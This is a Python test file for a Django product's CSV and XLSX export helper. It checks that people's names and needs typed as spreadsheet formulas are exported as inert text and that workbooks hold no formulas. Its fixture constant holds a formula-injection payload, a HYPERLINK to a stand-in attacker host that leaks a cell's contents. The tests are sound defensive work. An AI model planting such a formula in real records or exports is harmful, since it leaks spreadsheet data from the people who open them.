"""Every CSV and XLSX the product writes goes through one helper (lib/exports.py) that keeps text
as text: a person's name typed as a spreadsheet formula comes out of every export as harmless
text, and no XLSX cell holds a formula (trust issue #11, point 2)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from directsupport.funds.ledger import posting
from directsupport.funds.models import Fund, Kind
from directsupport.lib.exports import csv_bytes, safe_text, xlsx_append, xlsx_bytes
from directsupport.market.tests.factories import SupportNeedFactory
from directsupport.people.models import Person

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&C2,"Click me")'
NEUTRALISED = "'" + HOSTILE


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark, for Excel"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def _assert_no_formula_in_csv(rows: list[list[str]]) -> None:
    for cell in _cells(rows):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            Decimal(cell)  # only a negative number may start with a minus


def _assert_no_formula_in_xlsx(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


# --- The helper itself ----------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_quote_in_front(start):
    assert safe_text(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("text", ["Dee Okafor", "", "£21.50", "1-2", "a=b", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert safe_text(text) == text


def test_numbers_dates_and_empty_cells_keep_their_kind_in_csv():
    rows = _csv_rows(
        csv_bytes(
            [
                ["Name", "Amount", "Count", "On", "Nothing"],
                [HOSTILE, Decimal("-12.50"), -3, dt.date(2026, 3, 4), None],
            ]
        )
    )
    assert rows[1] == [NEUTRALISED, "-12.50", "-3", "04/03/2026", ""]


def test_xlsx_cells_are_text_or_numbers_never_formulas():
    book = Workbook()
    sheet = book.create_sheet("Checked", 0)
    xlsx_append(sheet, ["Name", "Amount"])
    xlsx_append(sheet, [HOSTILE, Decimal("-12.50")])
    xlsx_append(sheet, ["Control\x0bcharacter", 3])
    texts = _assert_no_formula_in_xlsx(xlsx_bytes(book))
    assert NEUTRALISED in texts and HOSTILE not in texts
    reopened = load_workbook(io.BytesIO(xlsx_bytes(book)))["Checked"]
    assert reopened["B2"].value == Decimal("-12.50") and reopened["B2"].data_type == "n"
    assert reopened["A3"].value == "Controlcharacter"


# --- Every export, with a hostile name ----------------------------------------------------


@pytest.fixture
def hostile_dee(dee) -> Person:
    """Dee's name changed to a formula, as an attacker with access to one record might."""
    dee.first_name = HOSTILE
    dee.preferred_name = ""
    dee.save()
    return dee


@pytest.fixture
def hostile_fund(hostile_dee, provider, council, finance) -> Fund:
    fund = Fund.objects.create(
        person=hostile_dee, provider=provider, council=council, reference="ISF-0001"
    )
    posting.post(
        fund=fund,
        kind=Kind.ALLOCATION,
        lines=posting.allocation_lines(260_000),
        effective_on=dt.date(2026, 5, 1),
        description="May allocation",
        idempotency_key="exports-allocation",
        actor=finance,
    )
    return fund


def _reconciliation_url(council_pk: int, suffix: str) -> str:
    return f"/funds/councils/{council_pk}/reconciliation/{suffix}?month=2026-05"


def test_the_reconciliation_csv_keeps_a_hostile_name_as_text(
    client_for, finance, council, hostile_fund
):
    response = client_for(finance).get(_reconciliation_url(council.pk, "csv/"))
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    assert rows[1][1].startswith(NEUTRALISED)
    assert not any(cell.startswith("=") for cell in _cells(rows))
    _assert_no_formula_in_csv(rows)


def test_the_reconciliation_workbook_holds_no_formula(
    client_for, commissioner, council, hostile_fund
):
    response = client_for(commissioner).get(_reconciliation_url(council.pk, "xlsx/"))
    assert response.status_code == 200
    texts = _assert_no_formula_in_xlsx(response.content)
    assert any(text.startswith(NEUTRALISED) for text in texts)


def test_the_audit_log_csv_keeps_a_hostile_name_as_text(client_for, manager, hostile_dee):
    client_for(manager).get(reverse("people:detail", args=[hostile_dee.pk]))
    response = client_for(manager).get(reverse("audit:export"))
    assert response.status_code == 200
    rows = _csv_rows(b"".join(response.streaming_content))
    names = [row[6] for row in rows[1:] if row[5] == str(hostile_dee.pk)]
    assert names and all(name.startswith(NEUTRALISED) for name in names)
    _assert_no_formula_in_csv(rows)


def test_the_market_view_csv_keeps_a_hostile_name_as_text(client_for, market_shaper, hostile_dee):
    SupportNeedFactory.create(person=hostile_dee, what="-2+3 a hostile need too")
    response = client_for(market_shaper).get(reverse("market:market_view_csv"))
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    gaps = [row for row in rows if row[0] == "Need nobody can meet"]
    assert gaps and gaps[0][13].startswith(NEUTRALISED)
    assert gaps[0][14] == "'-2+3 a hostile need too"
    _assert_no_formula_in_csv(rows)
